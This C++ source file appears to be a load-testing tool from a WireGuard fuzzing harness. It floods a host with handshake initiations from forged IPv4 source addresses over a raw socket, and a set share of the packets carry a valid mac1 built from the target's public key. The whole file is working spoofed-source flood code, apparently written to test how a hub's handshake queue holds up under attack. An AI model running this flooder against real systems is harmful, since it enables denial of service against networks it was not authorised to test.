// SPDX-License-Identifier: GPL-2.0
// Initiations from forged sources, as anybody can make them who knows a public key.
//
//   flood SOURCE-NET HOST PORT PUBLIC-KEY RATE [PERCENT]
//
// sends RATE initiations per second, in bursts, until SIGTERM; then prints how many, and how many
// per second. PERCENT of them (default 100) have a valid mac1 over random bytes: the others fill
// the queue as well and cost who looks at them less. The source is a random address of
// SOURCE-NET, an IPv4 prefix of 16 bits, and a random port. Prints "ready" before the first.
#include <arpa/inet.h>
#include <netinet/ip.h>
#include <netinet/udp.h>
#include <sched.h>
#include <sys/socket.h>
#include <unistd.h>

#include <algorithm>
#include <chrono>
#include <csignal>
#include <cstring>
#include <thread>

#include "random.hh"
#include "wgcore.h"

using wgfuzz::Bytes;
using wgfuzz::die;

namespace {

// Random parts are made in advance, so that the rate does not suffer from them.
constexpr size_t kNumMessages = 2048;
constexpr size_t kHeaderLen = sizeof(iphdr) + sizeof(udphdr);
constexpr size_t kPacketLen = kHeaderLen + WGC_INITIATION_LEN;
constexpr auto kBurst = std::chrono::milliseconds(800);
// Low enough for a queue of 4096 not to be full when somebody honest comes.
constexpr size_t kMaxBurstLen = 2000;
constexpr size_t kBatchLen = 64;

volatile std::sig_atomic_t is_stopped;

struct Target {
  in_addr source_net{}, host{};
  uint16_t port = 0;
  uint8_t public_key[WGC_KEY_LEN] = {};
  size_t valid_percent = 100;
};

Bytes make_packet(const Target &target, const wgc_cookie_jar &fresh_jar, wgfuzz::Random &random,
                  bool is_valid) {
  Bytes packet(kPacketLen);
  iphdr ip{};
  ip.version = 4;
  ip.ihl = sizeof ip / 4;
  ip.tot_len = htons(kPacketLen);
  ip.ttl = 64;
  ip.protocol = IPPROTO_UDP;
  ip.daddr = target.host.s_addr;
  udphdr udp{};
  udp.dest = htons(target.port);
  udp.len = htons(sizeof udp + WGC_INITIATION_LEN);
  std::memcpy(packet.data(), &ip, sizeof ip);
  std::memcpy(packet.data() + sizeof ip, &udp, sizeof udp);
  uint8_t *message = packet.data() + kHeaderLen;
  random.fill(message, WGC_INITIATION_LEN);
  const uint8_t type[4] = {WGC_MSG_INITIATION, 0, 0, 0};
  std::memcpy(message, type, sizeof type);
  wgc_cookie_jar jar = fresh_jar;
  wgc_cookie_add_macs(&jar, message, WGC_INITIATION_LEN, 0);
  if (!is_valid) message[WGC_INITIATION_LEN - WGC_MACS_LEN] ^= 1;
  return packet;
}

// The kernel fills in the checksum of the IP header; one of zero says that UDP has none.
void forge_source(Bytes &packet, const Target &target, wgfuzz::Random &random) {
  const uint32_t source = ntohl(target.source_net.s_addr) | (random.u32() & 0xffff);
  const uint32_t address = htonl(source);
  const uint16_t port = htons(static_cast<uint16_t>(random.u32() | 1));
  std::memcpy(packet.data() + offsetof(iphdr, saddr), &address, sizeof address);
  std::memcpy(packet.data() + sizeof(iphdr) + offsetof(udphdr, source), &port, sizeof port);
}

class Flood {
 public:
  Flood(const Target &target, size_t burst_len)
      : target_(target), burst_len_(burst_len), random_(wgfuzz::choose_seed()) {
    socket_ = socket(AF_INET, SOCK_RAW | SOCK_CLOEXEC, IPPROTO_RAW);
    const int buffer_len = 1 << 22;
    if (socket_ < 0) die("flood: no raw socket: it needs root");
    setsockopt(socket_, SOL_SOCKET, SO_SNDBUFFORCE, &buffer_len, sizeof buffer_len);
    wgc_cookie_jar jar;
    wgc_cookie_jar_init(&jar, target.public_key);
    for (size_t i = 0; i < kNumMessages; ++i)
      packets_.push_back(make_packet(target, jar, random_, i % 100 < target.valid_percent));
    destination_.sin_family = AF_INET;
    destination_.sin_addr = target.host;
  }

  void burst() {
    for (size_t done = 0; done < burst_len_;) done += batch(std::min(kBatchLen, burst_len_ - done));
  }

  uint64_t num_sent() const { return num_sent_; }

 private:
  size_t batch(size_t len) {
    mmsghdr headers[kBatchLen] = {};
    iovec vectors[kBatchLen];
    for (size_t i = 0; i < len; ++i) {
      Bytes &packet = packets_[next_++ % kNumMessages];
      forge_source(packet, target_, random_);
      vectors[i] = {packet.data(), packet.size()};
      headers[i].msg_hdr.msg_name = &destination_;
      headers[i].msg_hdr.msg_namelen = sizeof destination_;
      headers[i].msg_hdr.msg_iov = &vectors[i];
      headers[i].msg_hdr.msg_iovlen = 1;
    }
    const int sent = sendmmsg(socket_, headers, static_cast<unsigned>(len), 0);
    if (sent < 0 && errno != ENOBUFS && errno != EAGAIN && errno != EINTR)
      die(std::string("flood: cannot send: ") + std::strerror(errno));
    num_sent_ += sent > 0 ? static_cast<uint64_t>(sent) : 0;
    return len;
  }

  Target target_;
  size_t burst_len_;
  wgfuzz::Random random_;
  int socket_;
  sockaddr_in destination_{};
  std::vector<Bytes> packets_;
  size_t next_ = 0;
  uint64_t num_sent_ = 0;
};

}  // namespace

int main(int argc, char **argv) {
  if (argc != 6 && argc != 7) die("usage: flood SOURCE-NET HOST PORT PUBLIC-KEY RATE [PERCENT]");
  Target target;
  if (inet_pton(AF_INET, argv[1], &target.source_net) != 1) die("flood: no address: SOURCE-NET");
  if (inet_pton(AF_INET, argv[2], &target.host) != 1) die("flood: no address: HOST");
  target.port = static_cast<uint16_t>(std::stoul(argv[3]));
  const Bytes key = wgfuzz::key_from_base64(argv[4]);
  std::copy(key.begin(), key.end(), target.public_key);
  const size_t rate = std::stoul(argv[5]);
  if (argc == 7) target.valid_percent = std::stoul(argv[6]);
  Flood flood(target, std::min(kMaxBurstLen, std::max<size_t>(1, rate * 4 / 5)));
  // Who floods has processors of their own: the hub's work must not slow a burst down.
  sched_param priority{};
  priority.sched_priority = 1;
  if (sched_setscheduler(0, SCHED_FIFO, &priority) != 0) die("flood: no real-time priority");
  std::signal(SIGTERM, [](int) { is_stopped = 1; });
  std::puts("ready");
  std::fflush(stdout);
  using Clock = std::chrono::steady_clock;
  const auto start = Clock::now();
  for (auto due = start; !is_stopped;) {
    flood.burst();
    due += kBurst;
    std::this_thread::sleep_until(due);
  }
  const double seconds = std::chrono::duration<double>(Clock::now() - start).count();
  std::printf("%llu %.0f\n", static_cast<unsigned long long>(flood.num_sent()),
              static_cast<double>(flood.num_sent()) / seconds);
  return 0;
}
